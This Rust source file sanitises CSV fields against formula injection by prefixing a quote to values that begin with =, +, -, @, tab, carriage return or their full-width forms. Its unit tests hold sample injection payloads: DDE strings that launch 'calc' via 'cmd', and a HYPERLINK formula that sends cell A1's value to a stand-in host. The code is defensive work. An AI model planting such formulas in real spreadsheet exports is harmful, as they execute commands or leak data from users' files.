//! A guard against CSV injection (CWE-1236): a spreadsheet takes a field that begins like a formula for one.

use arrow::array::{Array, StringViewArray};

use crate::unchecked::TextBuilder;

/// What stands before a text that would be taken for a formula, so that it is taken for text.
const GUARD: char = '\'';

/// What formulas begin with, the wide forms of East Asian spreadsheets included; a tab or a carriage return makes some
/// programs look at what comes after it.
const STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];

/// The values with a quote before each that would be taken for a formula.
pub(super) fn guard(values: &StringViewArray) -> StringViewArray {
    if !values.iter().flatten().any(is_formula) {
        return values.clone();
    }
    let mut builder = TextBuilder::new(values.len());
    let mut guarded = String::new();
    for value in values {
        match value {
            None => builder.push_null(),
            Some(value) if is_formula(value) => {
                guarded.clear();
                guarded.push(GUARD);
                guarded.push_str(value);
                builder.push(&guarded);
            }
            Some(value) => builder.push(value),
        }
    }
    builder.finish()
}

/// Whether a text may be taken for a formula that does more than to add up numbers. Signed numbers and telephone
/// numbers do no more: without a letter and a `!`, nothing can be called, and no cell or program named.
fn is_formula(text: &str) -> bool {
    let is_sum =
        |text: &str| text.starts_with(['+', '-']) && text.bytes().all(|byte| b"0123456789+-.,()/ ".contains(&byte));
    text.starts_with(STARTS) && !is_sum(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_guarded_and_nothing_else_is() {
        // The payloads are of the kinds that OWASP lists under CSV injection.
        let formulas = [
            "=1+1",
            "=HYPERLINK(\"http://x.example?\"&A1,\"see\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
            "＋A1",
            "－A1",
            "＠A1",
            "=",
            "@",
            "+33 1 x",
            "-A1",
        ];
        let others = [
            "",
            "a=1",
            "'=1",
            " =1",
            "-5",
            "-0.25",
            "+33 1 23 45 67 89",
            "+1 (212) 555-0100",
            "-",
            "1-2",
            "mail@x.example",
        ];
        let values: StringViewArray =
            formulas.iter().chain(&others).map(Some).chain([None]).collect::<Vec<_>>().into_iter().collect();
        let guarded = guard(&values);
        for (place, formula) in formulas.iter().enumerate() {
            assert_eq!(guarded.value(place), format!("'{formula}"));
        }
        for (place, other) in others.iter().enumerate() {
            assert_eq!(guarded.value(formulas.len() + place), *other);
        }
        assert!(guarded.is_null(values.len() - 1));
        assert_eq!(guard(&StringViewArray::from_iter_values(others)), StringViewArray::from_iter_values(others));
    }
}
